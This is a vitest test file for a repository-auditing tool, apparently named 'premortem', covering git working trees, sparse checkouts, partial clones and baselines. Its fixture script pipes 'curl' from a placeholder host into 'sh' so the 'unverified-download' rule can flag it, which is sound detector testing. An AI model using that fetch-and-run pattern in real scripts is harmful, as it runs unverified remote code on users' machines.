import { mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { DiskWorkspace } from '../../src/clients/disk.ts';
import { GitWorkspace } from '../../src/clients/git.ts';
import { openRepository } from '../../src/clients/git-discovery.ts';
import { findProgram } from '../../src/clients/programs.ts';
import { TestRepository, temporaryFolder, writeFiles } from '../repository.ts';
import { command, found } from './command.ts';

afterEach(() => vi.unstubAllEnvs());

const bad = '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n';
const download = 'unverified-download';

describe('a working tree', () => {
  it('is read with what git does not track and does not ignore', async () => {
    const repository = new TestRepository();
    repository.commit({ '.gitignore': 'ignored/\n', 'a.sh': '#!/bin/sh\n' });
    repository.write({ 'new.sh': bad, 'deep/new.sh': bad, 'ignored/b.sh': bad });
    const expected = [`deep/new.sh ${download}`, `new.sh ${download}`];
    expect(found(await command('audit', repository.folder))).toEqual(expected);
    expect(found(await command('diff', repository.folder, '--base', 'HEAD'))).toEqual(expected);
    expect(found(await command('audit', join(repository.folder, 'deep')))).toEqual([`new.sh ${download}`]);
  });

  it('names once what git ignores of a kind that is checked', async () => {
    const repository = new TestRepository();
    repository.commit({ '.gitignore': '*.local.sh\n*.log\nout/\nnode_modules/\n', 'a.sh': '#!/bin/sh\n' });
    repository.write({
      'b.local.sh': bad,
      'c.local.sh': bad,
      'd.log': bad,
      'out/e.sh': bad,
      'node_modules/f.sh': bad,
    });
    const { report } = await command('audit', repository.folder);
    expect(report.diagnostics.map(({ message }) => message).filter((one) => one.includes('ignores'))).toEqual(
      ['Git ignores 2 files of a kind that is checked, so they were not read: `b.local.sh`, `c.local.sh`.'],
    );
  });

  it('is read before its first commit', async () => {
    const repository = new TestRepository().write({ 'new.sh': bad });
    expect(found(await command('audit', repository.folder))).toEqual([`new.sh ${download}`]);
  });

  it('is not read so where somebody else may have left files behind', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': '#!/bin/sh\n' });
    repository.write({ 'new.sh': bad });
    const workspace = new DiskWorkspace(repository.folder, await openRepository(repository.folder));
    expect((await workspace.list()).map(({ path }) => path)).toEqual(['a.sh']);
  });

  it('has the configuration that is on disk, tracked or not', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': '#!/bin/sh\n' });
    repository.write({ 'new.sh': bad, '.github/premortem.yml': `rules:\n  ${download}: off\n` });
    for (const words of [['audit'], ['diff', '--base', 'HEAD']])
      expect(found(await command(words[0]!, repository.folder, ...words.slice(1)))).toEqual([]);
    repository.write({ '.github/premortem.yml': 'rules:\n  unverified-dowload: off\n' });
    expect((await command('audit', repository.folder)).code).toBe(2);
  });

  it.each([
    ['in the usual place', {}],
    ['where the configuration says', { 'premortem.yml': 'baseline: accepted/now.json\n' }],
  ])('is quiet once its findings are accepted, %s', async (_, files) => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': bad, ...files });
    repository.write({ 'new.sh': bad });
    expect((await command('baseline', repository.folder)).code).toBe(0);
    const after = await command('audit', repository.folder);
    expect([after.code, found(after)]).toEqual([0, []]);
    expect(found(await command('diff', repository.folder, '--base', 'HEAD'))).toEqual([]);
  });
});

describe('a baseline', () => {
  it.each([
    ['another folder', '../elsewhere.json', 'lies outside of the repository'],
    ['an absolute path', '/tmp/elsewhere.json', 'lies outside of the repository'],
    ['a linked folder', 'out/accepted.json', 'lies behind a link'],
  ])('is not written where the configuration leads out of the repository: %s', async (_, path, message) => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': bad, 'premortem.yml': `baseline: ${path}\n` });
    const outside = temporaryFolder();
    symlinkSync(outside, join(repository.folder, 'out'));
    const { code, error } = await command('baseline', repository.folder);
    expect([code, error]).toEqual([2, expect.stringContaining(message)]);
    expect(readdirSync(outside)).toEqual([]);
  });
});

describe('a change between two revisions', () => {
  it('is judged by the base branch as it is, not as it was where the change began', async () => {
    const repository = new TestRepository();
    repository.commit({ 'a.sh': '#!/bin/sh\n', 'premortem.yml': `rules:\n  ${download}: off\n` });
    repository.git('checkout', '-q', '-b', 'topic');
    repository.commit({ 'new.sh': bad });
    repository.git('checkout', '-q', 'main');
    repository.commit({ 'premortem.yml': null });
    const words = ['diff', repository.folder, '--base', 'main', '--head', 'topic'];
    expect(found(await command(...words))).toEqual([`new.sh ${download}`]);
  });
});

/** A clone with the arguments given, of a repository with a script at HEAD and another before. */
function cloneOf(...words: string[]): { clone: TestRepository; before: string; remote: TestRepository } {
  const remote = new TestRepository();
  remote.git('config', 'uploadpack.allowFilter', 'true');
  remote.git('config', 'uploadpack.allowAnySHA1InWant', 'true');
  const before = remote.commit({
    'svc/a.sh': '#!/bin/sh\ntrue\n',
    'svc/b.sh': '#!/bin/sh\ntrue\n',
    'docs/x.md': 'x\n',
  });
  remote.commit({ 'svc/a.sh': bad, 'svc/b.sh': bad, 'docs/x.md': 'y\n' });
  const folder = join(temporaryFolder(), 'clone');
  mkdirSync(folder);
  remote.git('clone', '-q', '--no-local', ...words, `file://${remote.folder}`, folder);
  return { clone: new TestRepository(folder), before, remote };
}

const both = [`svc/a.sh ${download}`, `svc/b.sh ${download}`];

describe('files that are tracked and not checked out', () => {
  it.each([
    ['by cone', ['sparse-checkout', 'set', 'docs']],
    ['by pattern', ['sparse-checkout', 'set', '--no-cone', '/docs/']],
    ['in a sparse index', ['sparse-checkout', 'set', '--sparse-index', 'docs']],
  ])('are read from git: %s', async (_, words) => {
    const { clone, before } = cloneOf();
    clone.git(...words);
    expect(found(await command('audit', clone.folder))).toEqual(both);
    expect(found(await command('diff', clone.folder, '--base', before))).toEqual(both);
  });

  it('are read from git where one of them is left out by hand', async () => {
    const { clone, before } = cloneOf();
    clone.git('update-index', '--skip-worktree', 'svc/a.sh');
    clone.git('update-index', '--assume-unchanged', 'svc/b.sh');
    clone.write({ 'svc/a.sh': null, 'svc/b.sh': null });
    expect(found(await command('audit', clone.folder))).toEqual(both);
    expect(found(await command('diff', clone.folder, '--base', before))).toEqual(both);
    // There after all, and otherwise than git takes them to be.
    clone.write({ 'svc/a.sh': '#!/bin/sh\n', 'svc/b.sh': '#!/bin/sh\n' });
    expect(found(await command('audit', clone.folder))).toEqual([]);
  });

  it('are gone where somebody deleted them', async () => {
    const { clone } = cloneOf();
    clone.write({ 'svc/a.sh': null });
    expect(found(await command('audit', clone.folder))).toEqual([both[1]]);
  });
});

/** Puts a git first in PATH that notes each fetch, by itself or started by another command. */
function countFetches(): () => number {
  const folder = temporaryFolder();
  const notes = join(folder, 'fetches');
  const real = findProgram('git', null);
  writeFiles(folder, {
    fetches: '',
    'git*': `#!/bin/sh\nfor w in "$@"; do [ "$w" = fetch ] && echo >> ${notes}; done\nexec ${real} "$@"\n`,
  });
  vi.stubEnv('PATH', `${folder}${delimiter}${process.env.PATH}`);
  return () => readFileSync(notes, 'utf8').length;
}

describe('a partial clone', () => {
  it.each(['blob:none', 'tree:0'])('%s gets what is missing in one request', async (filter) => {
    const { clone, before } = cloneOf(`--filter=${filter}`, '--sparse');
    const requests = countFetches();
    const repository = (await openRepository(clone.folder))!;
    expect(repository.promisor).toBe('origin');
    const workspace = new DiskWorkspace(clone.folder, repository);
    const paths = (await workspace.list()).map(({ path }) => path);
    expect(paths).toEqual(['docs/x.md', 'svc/a.sh', 'svc/b.sh']);
    const contents = await workspace.read(paths);
    expect(contents).toEqual(['y\n', bad, bad].map((text) => ({ ok: true, text })));
    expect(requests()).toBe(1);
    const base = await new GitWorkspace(repository, before).read(paths);
    expect(base.map((content) => content.ok && content.text)).toEqual([
      'x\n',
      '#!/bin/sh\ntrue\n',
      '#!/bin/sh\ntrue\n',
    ]);
    expect(requests()).toBe(filter === 'tree:0' ? 3 : 2);
  });

  it('says of each file why its remote does not give it', async () => {
    const { clone, before } = cloneOf('--filter=blob:none');
    clone.git('remote', 'set-url', 'origin', 'http://127.0.0.1:9/none');
    const repository = (await openRepository(clone.folder))!;
    const contents = await new GitWorkspace(repository, before).read(['svc/a.sh', 'svc/b.sh']);
    expect(contents).toEqual(
      [1, 2].map(() => ({
        ok: false,
        reason: expect.stringMatching(/partial clone, and origin did not give it \(fatal: /),
      })),
    );
    const quiet = (await openRepository(clone.folder, { offline: true }))!;
    expect(await new GitWorkspace(quiet, before).read(['svc/a.sh'])).toEqual([
      { ok: false, reason: 'this is a partial clone, and missing objects are not fetched offline' },
    ]);
  });
});
